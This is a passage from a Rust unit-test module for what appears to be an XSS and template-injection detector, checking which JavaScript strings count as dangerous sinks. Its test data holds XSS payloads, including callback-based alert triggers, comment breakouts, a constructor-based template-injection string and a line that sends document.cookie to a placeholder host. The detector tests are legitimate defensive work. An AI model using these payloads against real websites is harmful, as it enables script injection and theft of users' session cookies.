            "see (alert, warning) levels",
            "{{ notify(value.alert) }}",
        ] {
            assert!(!sink_call(v), "{v}");
        }
    }

    #[test]
    fn sinks_called_by_the_engine_or_a_registered_callback() {
        for v in [
            "{toString:alert}+''",
            "{valueOf:alert}+''",
            "Object.defineProperty(window,'x',{get:alert})",
            "new Proxy({},{get:alert}).x",
            "x={then:confirm};await x",
            "addEventListener('load',alert)",
            "requestAnimationFrame(alert)",
            "window.addEventListener('click', prompt)",
            "'1'.replace(/1/,alert)",
            "Object.assign(window,{onerror:alert});throw 1",
            "[alert][0](1)",
            "[1,confirm][1](1)",
            "({a:alert}).a(1)",
            "({a:prompt})['a'](1)",
        ] {
            assert!(sink_call(v), "{v}");
        }
        for v in [
            "{ get: alertUser }",
            "switch (x) { case get: alert }",
            "{ title: alert }",
            "{level: 'alert', toString: fmt}",
            "addEventListener('load', init)",
            "notify(alert)",
            "requestAnimationFrame(draw)",
            "'1'.replace(/1/, fix)",
            "{onerror: logError}",
            "Alert levels: {get: high}",
            "levels = [alert, warn]",
            "[alert][0] is the first level",
            "({a:alert}).a",
            "[info, alert].length",
        ] {
            assert!(!sink_call(v), "{v}");
        }
    }

    #[test]
    fn comment_breakouts() {
        for v in ["*/alert(1)/*", "*/ alert(1) /*", " */eval(name)//"] {
            assert!(sink_call(v), "{v}");
        }
        for v in ["*/ end of block /*", "/* alert */", "*/confirm(order)"] {
            let _ = sink_call(v);
        }
        assert!(!sink_call("*/ end of block /*"));
        assert!(!sink_call("/* alert */"));
    }

    #[test]
    fn sinks_and_templates() {
        assert!(sink_call("alert(1)"));
        assert!(sink_call("alert`1`"));
        assert!(sink_call("document.location='http://x/?'+document.cookie"));
        assert!(!sink_call("Alert (red) level"));
        assert!(!sink_call("window cleaning"));
        assert!(template_injection(
            "{{constructor.constructor('alert(1)')()}}"
        ));
        assert!(!template_injection("{{ name }}"));
    }
}
